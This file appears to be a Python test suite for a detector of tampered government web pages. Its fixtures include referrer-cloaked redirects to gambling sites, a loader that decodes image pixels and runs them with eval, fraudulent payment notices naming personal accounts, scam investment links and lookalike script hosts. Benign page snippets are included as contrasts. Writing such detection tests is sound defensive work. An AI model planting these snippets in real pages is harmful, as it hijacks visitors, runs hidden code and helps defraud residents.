"""Relatives of what outsiders did: notes of whence somebody comes, code out of pictures, purses of persons."""

from tests.each import each
from tests.pages.imitations.judging import shot, violations
from tests.pages.test_relatives import PAGE, assert_not_accused, assert_told, put, script

FROM = "if(/(baidu|sogou|so)\\.(com|cn)/i.test(document.referrer))"
SEARCHERS = {
    "leads away": script(FROM + "{location.href='https://www.bw.example/?f=1'}"),
    "keeps a note and leads away": script(FROM + "{document.cookie='f=1';location.href='https://www.bw.example/'}"),
    "leads those away that it has not noted": script(
        FROM + "{document.cookie='f=1;path=/'}else{location.href='https://www.bw.example/'}"
    ),
    "notes one and leads the other": script(
        FROM + "{document.cookie='f=1;path=/'}if(/baidu/.test(document.referrer)){document.write(x)}"
    ),
}
NOTED = {
    "a cookie, and a page for telephones": script(
        FROM + "{document.cookie='from=search;path=/';}"
        "if(/MicroMessenger/i.test(navigator.userAgent)){location.href='/wap/index.html';}"
    ),
    "a store, and a page for telephones": script(
        FROM + "{sessionStorage.setItem('from','search')}if(screen.width<640){location.href='/wap/'}"
    ),
    "a count, and a greeting": script(
        FROM + "{_hmt.push(['_trackEvent','from','search']);}document.write(new Date().getFullYear()+'年')"
    ),
}
PIXELS = (
    "var i=new Image();i.onload=function(){var x=document.createElement('canvas').getContext('2d');x.drawImage(i,0,0);"
    "var d=x.getImageData(0,0,9,9).data,o='';for(var k=0;k<d.length;k+=4)o+=String.fromCharCode(d[k]);%s};i.src='a.png'"
)
PICTURES = {
    "run at once": script(PIXELS % "(0,eval)(o)"),
    "made a function": script(PIXELS % "new Function(o)()"),
    "run by its name": script(PIXELS % "eval(o)"),
}
DRAWN = {
    "a grey picture": script(
        "var x=c.getContext('2d'),d=x.getImageData(0,0,9,9);for(var k=0;k<d.data.length;k+=4){d.data[k]=d.data[k+1]}"
    ),
}
PAID = {
    "a purse and a card": put(
        "<p>生活垃圾处理费请直接转账至经办人刘建平个人支付宝13874500000，或农业银行卡6228481120099887766 刘建平。</p>"
    ),
    "a purse": put("<p>报名费请付款到工作人员的个人微信13874500000，备注姓名。</p>"),
    "a card and a name": put("<p>考务费80元，汇款至工商银行卡6222021234567890123（张伟），截图发报名群。</p>"),
}
RECEIVED = {
    "an office": put(
        "<p>缴费账户：石泓县非税收入汇缴结算户，开户行：农村商业银行，账号：82010550009911002，请勿向任何个人支付宝转账。</p>"
    ),
    "a warning": put("<p>任何人要求把保证金转账到个人微信、个人银行卡的都是诈骗，请拨打96110。</p>"),
    "paid out": put("<p>高龄津贴按月发放到本人社会保障卡，没有社会保障卡的登记个人银行卡账号。</p>"),
    "forbidden": put("<p>严禁将学费缴入个人账户，收费单位开户名称为县第一中学，开户行中国银行。</p>"),
    "fees by a purse of the town's": put("<p>水费可以在支付宝、微信的生活缴费里缴纳，户号见水表，自来水公司收。</p>"),
}


COUNTERS = {
    "a counter whose protocol is looked up": script(
        "var p=(('https:'==document.location.protocol)?'https://':'http://');"
        "document.write('<span id=\"c_12\"></span><scr'+'ipt src=\"'+p+'s22.cnzz.com/z_stat.php?id=12\"></scr'+'ipt>')"
    ),
}
LIBRARIES = {
    "a library": put("<script src='https://cdn.jsdelivr.net/npm/jquery@3.5.1/dist/jquery.min.js'></script>"),
    "another library": put("<script src='//unpkg.com/swiper@8.4.7/swiper-bundle.min.js'></script>"),
}
ASKED_FOR = {
    "a questionnaire's form": put(
        "<form action='https://www.wjx.cn/joinnew/p.ashx' method=post><input name=name placeholder='姓名'>"
        "<input name=tel placeholder='联系电话'><textarea name=c placeholder='您的建议'></textarea></form>"
    ),
    "the app in a store on the mainland": put(
        "<a href='https://abrmt.oss-cn-guizhou.aliyuncs.com/zs.apk'>客户端下载</a>"
    ),
}
HOUSES = {
    "a house of games behind the office's own news": put(
        "<a href='http://www.wnsr-7700.com/go.asp?id=1'>县领导调研</a>"
    ),
    "another, by its letters": put("<a href='https://m.xpj8899.com/'>要闻</a>"),
    "money that comes back every day": put(
        "<li><a href='http://szrmb.vip/r'>县政府惠民数字人民币理财项目：投入1万元日返300元 名额有限扫码入群</a></li>"
    ),
}
FILED = {
    "a filing that leads to a house of games": put("<a href='http://www.a-duchang.example/'>京ICP备05009871号-1</a>"),
    "of the police's": put("<a href='http://www.b.example/x'>京公网安备 11010102001234号</a>"),
}
REGISTERED = {
    "the register": put("<a href='https://beian.miit.gov.cn/'>京ICP备05009871号-1</a>"),
    "the register of the police's": put(
        "<a href='http://www.beian.gov.cn/portal/registerSystemInfo'>京公网安备 11010102001234号</a>"
    ),
    "who shows it": put("<a href='https://icp.chinaz.com/a.gov.cn'>京ICP备05009871号-1</a>"),
    "a menu that the way back closes": script(
        "if('ontouchstart' in window){window.addEventListener('popstate',function(){$('#nav').removeClass('in');});"
        "$('.toggle').on('click',function(){history.pushState({m:1},'','#nav');});}"
    ),
}
NEIGHBOURS = {
    "the weather": put("<iframe src='//widget.seniverse.com/embed?loc=a' width=250 height=60></iframe>"),
    "the province's media": put("<a href='http://app.gsrmt.com.cn/zs/zs_v3.1.apk'>客户端下载</a>"),
    "a warning of it": put("<li><a href='/a/1.html'>警惕以数字人民币理财、投1万元日返300元为名的诈骗</a></li>"),
}
NEW = {
    "anybody's package": put("<script src='https://cdn.jsdelivr.net/npm/x-tongji@1.0.0/a.js'></script>"),
    "anybody's house": put("<script src='https://cdn.jsdelivr.net/gh/someone/a@1/jquery.min.js'></script>"),
    "a library of no edition": put("<script src='https://cdn.jsdelivr.net/npm/jquery'></script>"),
    "a name like the library's": put("<script src='https://cdn.jsdelivr-npm.com/jquery@3.5.1/jquery.min.js'></script>"),
    "a form to a stranger": put(
        "<form action='https://www.bdform-cn.com/f/1' method=post><input name=name placeholder='姓名'>"
        "<input name=tel placeholder='联系电话'><textarea name=c placeholder='您的建议'></textarea></form>"
    ),
    "the app in a store abroad": put("<a href='https://zs-app.oss-cn-hongkong.aliyuncs.com/zs.apk'>客户端下载</a>"),
    "a counter of a stranger's": script(
        "var p=(('https:'==document.location.protocol)?'https://':'http://');"
        "document.write('<scr'+'ipt src=\"'+p+'s22.cnzz.example/z_stat.php?id=12\"></scr'+'ipt>')"
    ),
}
TOLD, HONEST = (
    SEARCHERS | PICTURES | PAID | HOUSES | FILED,
    NOTED | DRAWN | RECEIVED | COUNTERS | LIBRARIES | ASKED_FOR | NEIGHBOURS | REGISTERED,
)


@each("page", TOLD.values(), ids=list(TOLD))
def test_what_hides_or_takes_is_told_at_first_sight(page: str) -> None:
    assert_told(page)


@each("page", HONEST.values(), ids=list(HONEST))
def test_what_offices_write_is_not_accused(page: str) -> None:
    assert_not_accused(page)


@each("page", NEW.values(), ids=list(NEW))
def test_what_came_from_a_stranger_is_told_beside_the_page_as_it_was(page: str) -> None:
    assert violations(page, shot(PAGE))
